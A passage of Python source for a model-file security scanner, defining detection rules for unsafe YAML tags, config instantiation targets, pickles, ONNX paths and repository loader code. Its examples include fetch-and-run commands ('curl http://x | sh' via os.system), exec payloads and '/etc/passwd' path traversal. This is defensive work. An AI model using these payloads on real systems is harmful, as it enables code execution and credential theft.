        references=("CWE-798", "CWE-312"),
    )
)


# ---- safetensors ---------------------------------------------------------------------------

_SAFETENSORS_REFS = ("https://github.com/huggingface/safetensors#format",)


SAFETENSORS_HEADER_INVALID = register_rule(
    Rule(
        id="SAFETENSORS-HEADER-INVALID",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="safetensors header cannot be parsed",
        what="Reports a safetensors file whose header the reference loader refuses: a declared "
        "length beyond the file or above 100,000,000 bytes, text that is not UTF-8 JSON, a "
        "JSON value that is not an object, duplicate keys, `NaN` or other non-JSON constants, "
        "an entry that is not `{dtype, shape, data_offsets}`, an unknown dtype, or a "
        "`__metadata__` that is not a map of strings to strings.",
        why="Loaders and scanners that recover from a broken header in different ways see "
        "different tensors; and a file that does not load as safetensors may be meant for "
        "another loader.",
        example="A header length of 2**63 in a 1 KB file.",
        references=_SAFETENSORS_REFS,
    )
)


SAFETENSORS_LAYOUT_INVALID = register_rule(
    Rule(
        id="SAFETENSORS-LAYOUT-INVALID",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="safetensors tensors do not tile the data buffer",
        what="Reports tensor entries whose `data_offsets` fall outside the data buffer, whose "
        "byte length disagrees with dtype and shape, or that overlap, leave gaps or leave "
        "bytes after the last tensor. Hidden bytes (gaps, trailing data) are analysed by "
        "content.",
        why="The reference loader refuses such files. Overlaps make two tensors alias one "
        "another; gaps and trailing bytes are room for a payload that a polyglot-aware loader "
        "reads.",
        example='{"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 1048576]}} over 16 '
        "bytes of data.",
        references=_SAFETENSORS_REFS,
    )
)


SAFETENSORS_LARGE_METADATA = register_rule(
    Rule(
        id="SAFETENSORS-LARGE-METADATA",
        pillar="scan",
        severity=Severity.LOW,
        title="safetensors `__metadata__` is unusually large",
        what="Reports a `__metadata__` map whose keys and values add up to more than 1 MiB.",
        why="Metadata holds a few descriptive strings; megabytes of it are room for an "
        "encoded payload or a resource attack on tools that display it. Its strings are all "
        "analysed.",
        example='{"__metadata__": {"blob": "<5 MB of base64>"}}',
        references=_SAFETENSORS_REFS,
    )
)


# ---- GGUF ----------------------------------------------------------------------------------

_GGUF_REFS = ("https://github.com/ggml-org/ggml/blob/master/docs/gguf.md",)


GGUF_MALFORMED = register_rule(
    Rule(
        id="GGUF-MALFORMED",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="GGUF header or metadata is structurally broken",
        what="Reports a GGUF file whose header or key/value section cannot be read: counts or "
        "lengths that the file cannot hold (checked before anything is allocated), unknown "
        "value types, duplicate keys, keys that are not UTF-8. Parsing stops there; what "
        "follows was not analysed.",
        why="llama.cpp refuses such files; parsers that allocate what a header declares are "
        "exhausted by a count of 2**63, and a scanner that stops early must not call the rest "
        "clean.",
        example="A tensor count of 2**63 in a 100-byte file.",
        references=(*_GGUF_REFS, "CVE-2024-21836", "CVE-2024-23496", "CVE-2024-23605", "CWE-789"),
        incomplete=True,
    )
)


GGUF_TENSOR_INVALID = register_rule(
    Rule(
        id="GGUF-TENSOR-INVALID",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="GGUF tensor table is inconsistent with the file",
        what="Reports tensor entries with more than 4 dimensions, empty or overflowing shapes, "
        "offsets that are misaligned, overlap, or reach past the end of the file, and "
        "duplicate tensor names.",
        why="llama.cpp refuses these files or, in older versions, read out of bounds "
        "(CVE-2024-21802 and its siblings, heap overflows in GGUF parsing); tensors that "
        "alias each other or point outside the data are no honest export.",
        example="A tensor whose offset is 2**40 in a 1 MB file.",
        references=(*_GGUF_REFS, "CVE-2024-21802", "CWE-125"),
    )
)


# ---- ONNX ----------------------------------------------------------------------------------

_ONNX_REFS = ("https://onnx.ai/onnx/repo-docs/IR.html",)


ONNX_EXTERNAL_DATA_PATH = register_rule(
    Rule(
        id="ONNX-EXTERNAL-DATA-PATH",
        pillar="scan",
        severity=Severity.HIGH,
        title="ONNX external data location escapes the model folder",
        what="Reports a tensor whose external data `location` is absolute, starts with a "
        "drive letter or a UNC prefix, holds a NUL byte or a URL scheme, starts with `~`, or "
        "climbs out of the model folder with `..`; and, for a model file on disk, a location "
        "that is a symbolic link resolving outside the model's folder (the link is looked up, "
        "never followed for reading).",
        why="ONNX runtimes read external tensor data from the path the model names: a model "
        "that points at `/etc/passwd` or `../../.ssh/id_rsa` reads that file into a tensor, "
        "where a served model's outputs can leak it (path traversal in external data: "
        "CVE-2022-25882, CVE-2024-27318).",
        example="external_data { key: 'location' value: '../../../../etc/passwd' }",
        references=("CVE-2022-25882", "CVE-2024-27318", "CWE-22", *_ONNX_REFS),
    )
)


ONNX_CUSTOM_OPERATOR = register_rule(
    Rule(
        id="ONNX-CUSTOM-OPERATOR",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="ONNX node uses an operator from a custom domain",
        what="Reports nodes whose domain is neither the ONNX standard domains (`ai.onnx`, "
        "`ai.onnx.ml`, training domains) nor ONNX Runtime's own contrib domains "
        "(`com.microsoft*`), nor a function defined in the model (whose body is analysed).",
        why="A custom operator runs native code from a library the user registers with the "
        "runtime: the model decides which library's code runs and with what inputs. Models "
        "from untrusted sources should not need it.",
        example="node { op_type: 'Exec' domain: 'com.evil' }",
        references=("https://onnxruntime.ai/docs/reference/operators/add-custom-op.html",),
    )
)


ONNX_PYTHON_OPERATOR = register_rule(
    Rule(
        id="ONNX-PYTHON-OPERATOR",
        pillar="scan",
        severity=Severity.HIGH,
        title="ONNX node calls back into Python",
        what="Reports nodes whose operator exists to call a Python function "
        "(`PythonOp`, `PythonOpGrad`, `PyOp`, `PyFunc`, in any domain but the standard "
        "ones), with the function name the node carries.",
        why="Such an operator runs Python that the host resolves by a name written in the "
        "model (ONNX Runtime training's `PythonOp`, onnxruntime-extensions' Python ops): what "
        "executes is decided by the file.",
        example="node { op_type: 'PythonOp' domain: 'com.microsoft' attribute { name: "
        "'func_name' s: 'os.system' } }",
        references=("CWE-94", *_ONNX_REFS),
    )
)


ONNX_MALFORMED = register_rule(
    Rule(
        id="ONNX-MALFORMED",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="ONNX protobuf is structurally broken",
        what="Reports an ONNX model whose protobuf encoding cannot be read: a varint longer "
        "than 10 bytes, a length that runs past its enclosing message, an invalid wire type "
        "or field number. Parsing of that message stops; what follows was not analysed.",
        why="Runtimes refuse such files, and a parser that trusts declared lengths allocates "
        "what the file claims.",
        example="A length-delimited field claiming 2**62 bytes.",
        references=("https://protobuf.dev/programming-guides/encoding/", *_ONNX_REFS),
        incomplete=True,
    )
)


ONNX_TENSOR_INVALID = register_rule(
    Rule(
        id="ONNX-TENSOR-INVALID",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="ONNX tensor is malformed or oversized",
        what="Reports tensors (initializers, attribute and sparse tensors) with an undefined "
        "data type, negative dimensions, an element count beyond 2**63, raw data whose length "
        "disagrees with dtype and shape, external data without a location or with a "
        "non-numeric offset or length, or a declared size larger than the file with no "
        "external data to hold it.",
        why="Runtimes that trust declared shapes allocate what the file claims (resource "
        "exhaustion) or read out of bounds; honest exports never write such tensors.",
        example="dims: [1099511627776, 1099511627776] with 4 bytes of raw data.",
        references=("CWE-789", *_ONNX_REFS),
    )
)


METADATA_EMBEDDED_PICKLE = register_rule(
    Rule(
        id="METADATA-EMBEDDED-PICKLE",
        pillar="scan",
        severity=Severity.HIGH,
        title="Pickle hidden in a metadata string",
        what="Reports a metadata string (or bytes) that is a pickle, or base64 or hex text of "
        "one. The pickle is analysed too, and its findings carry their own location; this "
        "finding is high when it imports or calls anything not on the safe list, and "
        "informational otherwise.",
        why="No loader of these formats unpickles metadata, so the pickle is a staged payload "
        "for a second step (a training script or plugin that loads it), hidden where pickle "
        "scanners do not look.",
        example='{"__metadata__": {"state": "gASV..."}} (base64 of a pickle calling os.system)',
        references=("CWE-502",),
    )
)


# ---- configuration that runs code (YAML tags, instantiation targets, jsonpickle, skops) -----

_PYYAML_CVES = ("CVE-2017-18342", "CVE-2019-20477", "CVE-2020-1747", "CVE-2020-14343")
_CONFIG_POLICY = (
    " Severity follows the callable policy that judges pickle imports: a denied callable "
    "(`os.system`, `builtins.eval`, `importlib.import_module`...) at its own severity (high or "
    "critical), a callable on no allow list at medium (it fails the default policy)."
)

YAML_PYTHON_OBJECT = register_rule(
    Rule(
        id="YAML-PYTHON-OBJECT",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="YAML tag imports or calls Python code",
        what="Reports a YAML node tagged to build a Python object: `python/object/apply` and "
        "`python/object/new` (call a callable with the node's arguments), `python/object` "
        "(create an instance and set its state), `python/name` (a reference to any function "
        "or class) and `python/module` (import a module). Tags are resolved on the parsed "
        "document as the loader resolves them, so short (`!!python/...`), verbatim "
        "(`!<tag:yaml.org,2002:python/...>`), `%TAG`-aliased and URI-escaped forms, and tags "
        "behind anchors, aliases and merge keys, are all found; tags on mapping keys count "
        "too. The plain Python scalar and collection tags (`python/tuple`, `python/str`, "
        "`python/bytes`, `python/int`, `python/float`, `python/complex`, `python/list`, "
        "`python/dict`, `python/none`, `python/bool`...) that Keras and Lightning write are "
        "not reported, nor are callables on the safe list (NumPy scalars as `yaml.dump` "
        "writes them). The evidence names the resolved callable, the tag, and its line and "
        "column." + _CONFIG_POLICY,
        why="PyYAML's `yaml.load` with `Loader`/`UnsafeLoader` (and `FullLoader` before 5.4, "
        "and `yaml.load` without a loader before 6.0), ruamel.yaml's `typ='unsafe'`, Keras' "
        "`model_from_yaml` and Lightning's `hparams.yaml` reader construct these tags: "
        "loading the file imports the module and calls the function with arguments the file "
        "chooses, which is arbitrary code execution.",
        example="`!!python/object/apply:os.system ['curl http://x | sh']`, or the same as "
        "`!<tag:yaml.org,2002:python/object/apply:os%2Esystem>`.",
        references=(*_PYYAML_CVES, "CVE-2021-37678", "CVE-2021-4118", "CWE-502"),
    )
)

YAML_UNPARSEABLE = register_rule(
    Rule(
        id="YAML-UNPARSEABLE",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="YAML document could not be parsed",
        what="Reports YAML that PyYAML's parser refuses (a syntax error, an undefined alias, "
        "an anchor defined twice) in a file named `.yaml`/`.yml` or whose text declares "
        "itself YAML (`%YAML`/`%TAG` directives, Python tags). Documents read before the "
        "error were analysed; the rest was not, and the file is marked as not fully "
        "analysed. When the unread text holds Python object tags, the finding is high and "
        "names them. Text that merely looks like `key: value` prose and does not parse is "
        "treated as ordinary text.",
        why="What was not parsed was not analysed, and YAML readers disagree on edge cases "
        "(ruamel.yaml reads YAML 1.2, libyaml and PyYAML's Python parser differ): a file "
        "this parser refuses may still load elsewhere.",
        example="`model: !!python/object/apply:os.system [id` (an unclosed flow sequence).",
        references=("CWE-20",),
        incomplete=True,
    )
)

YAML_ALIAS_EXPANSION = register_rule(
    Rule(
        id="YAML-ALIAS-EXPANSION",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="YAML aliases expand to a huge or endless structure",
        what="Reports a YAML document whose aliases, expanded, would make more nodes than "
        '`limits.max_document_values` (a "billion laughs"), or that contains itself '
        "through an anchor. The scanner counts the expansion without performing it and "
        "analyses every node once.",
        why="PyYAML shares aliased objects, but the libraries that read configs copy or walk "
        "them (OmegaConf creates a node per value, `json.dumps` and `deepcopy` expand "
        "them): a few hundred bytes exhaust the memory or never finish.",
        example="Nine levels of `&a [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]` (10^9 nodes).",
        references=("CWE-776", "CWE-674"),
    )
)

_HYDRA = "https://hydra.cc/docs/advanced/instantiate_objects/overview/"

CONFIG_TARGET = register_rule(
    Rule(
        id="CONFIG-TARGET",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Configuration names a callable a loader instantiates",
        what="Reports an instantiation target in a YAML or JSON document that is on no allow "
        "list. Targets are the values of keys that instantiation libraries import and call: "
        "Hydra/OmegaConf `_target_` (NeMo, detectron2 LazyConfig, uni2TS, FlexTok and most "
        "Hydra-based libraries) at any depth, including inside `_args_`, lists and `_partial_` "
        "factories; jsonargparse/LightningCLI `class_path`; the Hydra 0.x form `cls`, `class` "
        "or `target` beside `params`; the `target` at the root of a NeMo model config; the "
        "`class` and `()` factories of a `logging.config.dictConfig` schema (a mapping with "
        "`version: 1` and `handlers`/`formatters`/`filters`); and mmengine's `type`, which is "
        "reported only when it names a denied callable (its dotted values are usually scoped "
        "registry names such as `mmdet.ResNet`). Values reached through `${...}` "
        "interpolation are resolved inside the document. The arguments of lookup helpers "
        "(`hydra.utils.get_method`/`get_class`/`get_object`, `pydoc.locate`, "
        "`importlib.import_module`, `functools.partial`...) are judged as the target they "
        "name. Each target is judged by the per-framework allow tables "
        "(`scanner/data/config_targets*.toml`: PyTorch, Lightning, NeMo, transformers, timm, "
        "torchmetrics, Hydra and logging entries, exact names only), then by the callable "
        "policy. The evidence gives the key path, line and column (YAML), the resolved "
        "callable and the helper or interpolation it came through." + _CONFIG_POLICY,
        why="`hydra.utils.instantiate` and its equivalents import whatever module the value "
        "names and call it with the sibling keys as arguments: a model config that names "
        "`os.system` or `builtins.exec` runs it when the model is built. NeMo `.nemo` "
        "archives (CVE-2025-23304), uni2TS `config.json` (CVE-2026-22584) and FlexTok "
        "safetensors metadata were attacked this way; Hydra's own blocklist (1.3.4+) is "
        "partial.",
        example="`encoder: {_target_: builtins.exec, _args_: ['import os; os.system(\"id\")']}` "
        "in `model_config.yaml` inside a `.nemo` file.",
        references=("CVE-2025-23304", "CVE-2026-22584", "CWE-470", "CWE-94", _HYDRA),
    )
)

CONFIG_TARGET_DYNAMIC = register_rule(
    Rule(
        id="CONFIG-TARGET-DYNAMIC",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Instantiation target cannot be known from the file",
        what="Reports an instantiation target (see `CONFIG-TARGET`) whose value is built from "
        "something outside the file: an environment variable (`${oc.env:...}`), a custom "
        "OmegaConf resolver, a key the document does not hold (filled by command-line "
        "overrides or another config), or a value that is not text. The evidence gives the "
        "key path and the unresolved expression.",
        why="The scanner cannot tell which callable the loader will import, so it cannot "
        "call the file safe; an attacker who controls the environment or the other config "
        "chooses the code that runs.",
        example="`_target_: ${oc.env:MODEL_CLASS}`",
        references=("CWE-470", _HYDRA),
    )
)

CONFIG_RESOLVER = register_rule(
    Rule(
        id="CONFIG-RESOLVER",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Configuration calls a custom OmegaConf resolver",
        what="Reports `${name:...}` interpolations whose resolver is not one of OmegaConf's "
        "and Hydra's own (`oc.env`, `oc.select`, `oc.create`, `oc.decode`, `oc.deprecated`, "
        "`oc.dict.keys`, `oc.dict.values`, `hydra:`...). High when the resolver's name says it "
        "evaluates code (`eval`, `exec`, `python`...), which many projects register.",
        why="A resolver is a Python function the loading program registered; its argument comes "
        "from the file. Projects commonly register `eval` to compute values, which turns "
        "any config value into arbitrary code.",
        example='`lr: ${eval:\'__import__("os").system("id")\'}`',
        references=("CWE-94", "https://omegaconf.readthedocs.io/en/latest/custom_resolvers.html"),
    )
)

CONFIG_TRUST_REMOTE_CODE = register_rule(
    Rule(
        id="CONFIG-TRUST-REMOTE-CODE",
        pillar="scan",
        severity=Severity.HIGH,
        title="Instantiation argument enables remote code",
        what="Reports `trust_remote_code: true` among the arguments of an instantiation target "
        "(`transformers.AutoModel.from_pretrained`, pipelines, tokenizers...).",
        why="With it, transformers downloads and imports the Python files of the model "
        "repository named beside it; the config then runs code from a repository the "
        "scanned file does not contain.",
        example="`{_target_: transformers.AutoModel.from_pretrained, "
        "pretrained_model_name_or_path: org/repo, trust_remote_code: true}`",
        references=("CWE-829", "CWE-494"),
    )
)

JSONPICKLE_OBJECT = register_rule(
    Rule(
        id="JSONPICKLE-OBJECT",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="jsonpickle document imports or calls Python code",
        what="Reports the jsonpickle tags that import and call: `py/reduce` (calls a callable "
        "with arguments), `py/object` (creates an instance, with `py/newargs`, "
        "`py/newargsex`, `py/initargs` and `py/state`), `py/type` and `py/function` "
        "(references to any class or function), `py/mod` (a module attribute) and `py/repr` "
        "(evaluated with `eval` by `decode(safe=False)` and jsonpickle before 1.0; a module "
        "attribute otherwise). Keys written as `json://` are decoded and analysed too. The "
        "evidence gives the key path and the resolved callable. Callables and classes on the "
        "safe list are not reported." + _CONFIG_POLICY,
        why="`jsonpickle.decode` imports the named modules and calls `__reduce__` callables "
        "with arguments from the file; `safe=True` (the default since 3.0) only removes the "
        "`eval` of `py/repr` and blocks none of the others.",
        example='`{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}`',
        references=("CVE-2020-22083", "CWE-502", "https://jsonpickle.github.io/"),
    )
)

_SKOPS = "https://skops.readthedocs.io/en/stable/persistence.html"

SKOPS_UNTRUSTED_TYPE = register_rule(
    Rule(
        id="SKOPS-UNTRUSTED-TYPE",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="skops file names a type or function skops does not trust by default",
        what="Reports a node of a skops `schema.json` whose type or function is outside the "
        "set `skops.io.load` trusts by default for that kind of node (generated from skops "
        "into `scanner/data/skops_trusted.toml`: scikit-learn estimators, NumPy and SciPy "
        "ufuncs and dtypes, builtin containers...), as `skops.io.get_untrusted_types` would "
        "list it: object instances, functions, types, bound methods (`class.method`), "
        "`operator` getters, partials, constructor calls and `numpy.random` bit generators. "
        "Each is judged by the callable policy too: low when the policy holds it safe, "
        "otherwise at the policy's severity (medium for an unknown callable, high or critical "
        "for a denied one).",
        why="Loading such a file needs the user to pass the names in `trusted=`; users copy "
        "`get_untrusted_types()` into it (and passed `trusted=True` before skops 0.10, "
        "CVE-2024-37065), after which skops imports and calls what the file names.",
        example="A FunctionNode for `builtins.eval`, or an ObjectNode of `os._wrap_close`.",
        references=("CVE-2024-37065", "CWE-502", _SKOPS),
    )
)

SKOPS_TAMPERED_NODE = register_rule(
    Rule(
        id="SKOPS-TAMPERED-NODE",
        pillar="scan",
        severity=Severity.HIGH,
        title="skops schema node built to get past skops' audit",
        what="Reports skops schema nodes that only a hand-edited file holds, each a published "
        "way around `skops.io.load`'s type audit: an `OperatorFuncNode` whose `__module__` "
        "is not `operator` (the audit checks one name, the loader calls another; "
        "CVE-2025-54412), a `MethodNode` whose declared class differs from the object it is "
        "bound to (CVE-2025-54413), a `LossNode` naming a class outside scikit-learn's "
        "losses (skops before 0.14 imported it before the audit), a `RandomGeneratorNode` "
        "whose bit generator is not a NumPy bit generator, and nodes of a loader skops does "
        "not have. Critical when the callable reached is a denied one.",
        why="skops versions before the fixes load these files while `get_untrusted_types` "
        "reports nothing (or something harmless-looking), so a reviewed file still runs "
        "`operator` getters, arbitrary methods or module imports.",
        example='`{"__loader__": "OperatorFuncNode", "__module__": "sklearn.pipeline", '
        '"__class__": "methodcaller", "attrs": ...}`',
        references=("CVE-2025-54412", "CVE-2025-54413", "CWE-502", _SKOPS),
    )
)

SKOPS_NOT_ZIP = register_rule(
    Rule(
        id="SKOPS-NOT-ZIP",
        pillar="scan",
        severity=Severity.HIGH,
        title="A .skops file that is not a zip archive",
        what="Reports a file named `.skops` whose content is not a zip archive. It was "
        "analysed by content (a pickle is analysed as a pickle); this finding says that the "
        "name promises skops' audited format while the content is something else.",
        why="`skops.card.Card.get_model` (and `_load_model`) fall back to `joblib.load`, that "
        "is to unpickling, for any model file that is not a zip: silently in skops 0.12 and "
        "below (CVE-2025-54886), and with `allow_pickle=True` since. A reviewer who trusts "
        "the extension never sees the pickle.",
        example="A joblib pickle saved as `model.skops`.",
        references=("CVE-2025-54886", "CWE-502", _SKOPS),
    )
)


# ---- Python source, .pth files and model repositories ---------------------------------------

_HF_REMOTE_CODE = "https://huggingface.co/docs/transformers/en/custom_models"
_SITE = "https://docs.python.org/3/library/site.html"
_MLFLOW_MODELS = "https://mlflow.org/docs/latest/models.html"
_REACH_SEVERITIES = (
    "Severity follows what the code reaches for, found with Python's own parser (`ast`, "
    "never running it) through its imports and aliases: high when it runs processes or "
    "code (`os.system`, `subprocess`, `exec`/`eval`/`compile`, building functions from code "
    "objects), opens network connections, loads native code (`ctypes`, "
    "`torch.ops.load_library`) or fetches code (`torch.hub.load`); medium when it "
    "deserialises (`pickle.load`, `torch.load` without `weights_only=True`), imports modules "
    "by computed names, downloads files, deletes files, or loads more remote code "
    "(`trust_remote_code=True`); low otherwise. Names of other modules count through the "
    "policy's `[callables] deny` entries."
)

PYTHON_DANGEROUS_CALL = register_rule(
    Rule(
        id="PYTHON-DANGEROUS-CALL",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Python source runs processes or code, or opens connections",
        what="Reports a file whose content is Python source (recognised by content: `.py` "
        "or not) that calls, or hands to a call, a name that runs processes or code, opens "
        "network connections or loads native code, with each name and line as evidence. "
        "The source is parsed with `ast` and never run; names are resolved through imports, "
        "`getattr` with literal names, `__import__`, simple assignments and code handed to "
        "`exec` as a (base64, hex, rot13...) literal. Long string constants are searched "
        "for hidden pickles. Medium: a script in a model folder runs only when someone runs "
        "or imports it; when a loader of the folder imports it, the repository findings "
        "(`REPO-REMOTE-CODE`, `REPO-LOADER-CODE`, `MLFLOW-LOADER-CODE`) say so, at high.",
        why="Model weights need no process, shell or socket. A script that calls them beside "
        "a model is either tooling a reviewer should know about or the payload of a "
        "repository that gets it imported (custom code, a start-up hook, a serving "
        "handler).",
        example='`utils.py` holding `import subprocess; subprocess.run("curl x | sh", '
        "shell=True)`.",
        references=("CWE-94", "CWE-78", "https://docs.python.org/3/library/ast.html"),
    )
)

PTH_CODE = register_rule(
    Rule(
        id="PTH-CODE",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Python path-configuration (.pth) file runs code at interpreter start-up",
        what="Reports a `.pth` path-configuration file, recognised by content wherever it "
        "stands (a line that `site` executes, `import ...`, doing more than importing, every "
        "other line a path or a comment), or a file named `.pth` whose content is Python. "
        "Each line that starts with `import` is analysed as Python. High when a line runs "
        "processes or code, opens connections, loads native code, deserialises or imports "
        "by computed name; medium for a file named `.pth` whose lines run other statements "
        "(low for text not named `.pth`); low for plain imports of modules outside the "
        "standard library. Path-only files and imports of the standard library are not "
        "reported.",
        why="Python's `site` module executes every line starting with `import` of each "
        "`.pth` file in `site-packages` at every interpreter start-up, before any program "
        "runs: a `.pth` file that lands there (an archive extracted into an environment, a "
        "wheel, a copied folder) is a persistent hook in every Python process.",
        example="`evil.pth` holding `import os; os.system('curl http://x | sh')`.",
        references=(_SITE, "https://attack.mitre.org/techniques/T1546/018/", "CWE-94"),
    )
)

REPO_REMOTE_CODE = register_rule(
    Rule(
        id="REPO-REMOTE-CODE",
        pillar="scan",
        severity=Severity.LOW,
        title="Python module that trust_remote_code imports",
        what="In a directory laid out as a Hugging Face repository, reports each Python "
        "module that a loader imports when the user passes `trust_remote_code=True`: the "
        "`auto_map` entries of `config.json`, `tokenizer_config.json` and the processor and "
        "feature-extractor configs (`AutoModel: modeling_x.XModel`), `custom_pipelines`, "
        "diffusers components in `model_index.json` whose library is a module of the "
        "repository, and sentence-transformers modules in `modules.json` whose type is not "
        "the library's own; the modules they import relatively (`from .utils import x`) "
        "are followed, as transformers copies them. The finding is on the module, with the "
        "configuration file and key as evidence. " + _REACH_SEVERITIES,
        why="`trust_remote_code=True` imports these files into the loading process: they "
        "are code by design, and a reviewer must read them before anyone loads the "
        "repository. The rule makes them visible (low) and raises them when the code does "
        "what a model needs not do.",
        example='`config.json` with `"auto_map": {"AutoModel": "modeling_x.XModel"}` and '
        '`modeling_x.py` calling `os.system("curl ... | sh")` (high).',
        references=(_HF_REMOTE_CODE, "CWE-94", "CWE-829"),
    )
)

REPO_LOADER_CODE = register_rule(
    Rule(
        id="REPO-LOADER-CODE",
        pillar="scan",
        severity=Severity.LOW,
        title="Python file that a serving or hub loader runs by convention",
        what="Reports Python files that a loader runs because of where they stand: "
        "`hubconf.py` (`torch.hub.load`), `handler.py` beside a model (Hugging Face "
        "Inference Endpoints custom handlers), `code/inference.py` (SageMaker model "
        "archives), and the handler and model files named by a TorchServe "
        "`MAR-INF/MANIFEST.json`. " + _REACH_SEVERITIES,
        why="Serving stacks import these files to serve the model; whoever controls the "
        "repository controls the code the server runs.",
        example="`hubconf.py` defining an entry point that calls `subprocess.run` (high).",
        references=(
            "https://pytorch.org/docs/stable/hub.html",
            "https://huggingface.co/docs/inference-endpoints/guides/custom_handler",
            "https://pytorch.org/serve/custom_service.html",
            "CWE-94",
        ),
    )
)

MLFLOW_LOADER_CODE = register_rule(
    Rule(
        id="MLFLOW-LOADER-CODE",
        pillar="scan",
        severity=Severity.LOW,
        title="Code that an MLflow flavor runs when the model is loaded",
        what="In an MLflow model directory (`MLmodel`), reports what `mlflow.pyfunc.load_model` "
        "and the flavors run: a `loader_module` that is not one of MLflow's own flavors "
        "(imported from the model's `code/` directory or from the environment), the Python "
        "files of `code` (`code_paths`), which MLflow puts first on `sys.path` after removing "
        "their names from `sys.modules`, a `python_model` (a cloudpickled `PythonModel`, "
        "whose pickle findings are on the file itself, or a models-from-code script), and "
        "the pickled model files flavors unpickle. High when the code reaches for processes, "
        "code or the network, when a `code/` module shadows a standard-library module "
        "(`code/json.py` runs on the next `import json`), or when a pickle it loads has "
        "findings at high or above; " + _REACH_SEVERITIES[0].lower() + _REACH_SEVERITIES[1:],
        why="Loading an MLflow model imports the loader module and unpickles its data: a "
        "model uploaded to a registry runs its code on whoever loads it (CVE-2024-37054 and "
        "its siblings for the other flavors).",
        example="`MLmodel` with `loader_module: my_loader` and `code/my_loader.py` calling "
        "`os.system`; a `python_model.pkl` whose pickle builds functions from bytecode.",
        references=(
            _MLFLOW_MODELS,
            "CVE-2024-37054",
            "CVE-2024-37052",
            "CVE-2024-37059",
            "CWE-502",
            "CWE-94",
        ),
    )
)

REPO_EXTERNAL_CODE = register_rule(
    Rule(
        id="REPO-EXTERNAL-CODE",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Loader configuration names code that is not in the directory",
        what="Reports loader configuration that makes a load fetch or import code the scan "
        "could not read: `auto_map` (and `custom_pipelines`) references to another "
        "repository (`org/repo--modeling_x.XModel`), modules named by `auto_map`, "
        "`model_index.json` or `modules.json` that the directory does not hold (a hub "
        "download fetches them from the repository at load time), and MLflow "
        "`loader_module`s outside MLflow that `code/` does not provide (imported from "
        "whatever is installed).",
        why="The code that runs is chosen by the configuration but lives elsewhere, "
        "unpinned: it can change after the scan, and nothing here vouches for it. Scan the "
        "other repository too, or pin and vendor the code.",
        example='`"auto_map": {"AutoModel": "someone/other-repo--modeling.Model"}`',
        references=(_HF_REMOTE_CODE, "CWE-829", "CWE-494"),
    )
)

REPO_HUB_KERNEL = register_rule(
    Rule(
        id="REPO-HUB-KERNEL",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Configuration selects kernel code from a hub repository",
        what="Reports keys of a model configuration, at any depth, that make transformers "
        "load kernel code from a hub repository rather than from installed libraries: "
        "`attn_implementation`, `_attn_implementation`, `_attn_implementation_internal` "
        "(and the other `*_implementation` keys) whose value names a repository "
        "(`kernels-community/flash-attn`, with or without a revision or a kernel name).",
        why="Hub kernels are downloaded and loaded as native or Python code into the loading "
        "process; a configuration that names one makes every load of the model fetch and "
        "run code from that repository, whatever the user asked for.",
        example='`config.json` with `"_attn_implementation": "someone/evil-kernels"`.',
        references=(
            "CVE-2026-4372",
            "https://huggingface.co/docs/kernels",
            "CWE-829",
        ),
    )
)

REPO_NOT_ANALYSED = register_rule(
    Rule(
        id="REPO-NOT-ANALYSED",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Loader configuration or the code it names could not be analysed",
        what="Reports a loader configuration of a scanned directory (`config.json` and the "
        "other Hugging Face configs, `MLmodel`, `modules.json`, `model_index.json`, a "
        "TorchServe manifest) that could not be read, or a Python file a loader runs that "
        "could not be parsed (invalid for this Python, above `limits.max_source_bytes`, "
        "unreadable), or more loader entries than are followed. The directory is marked as "
        "not fully analysed.",
        why="Which code a load runs is decided by these files; what could not be read cannot "
        "be called safe.",
        example="`MLmodel` that is not valid YAML; `modeling_x.py` written for a newer Python.",
        references=("CWE-693",),
        incomplete=True,
    )
)
